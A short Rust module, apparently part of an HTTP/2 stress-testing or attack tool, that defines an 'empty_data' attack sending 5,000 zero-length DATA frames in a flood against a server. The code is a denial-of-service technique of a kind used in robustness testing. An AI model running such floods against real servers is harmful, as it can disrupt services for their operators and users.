//! DATA frames without a byte in them.

use crate::attacker::{Attack, Attacker};
use crate::flood;
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("empty_data", "DATA frames of zero bytes", run);

fn run(a: &mut Attacker) {
    let frames = wire::data(b"").repeat(5_000);
    flood::post(a, &frames, 5_000);
}
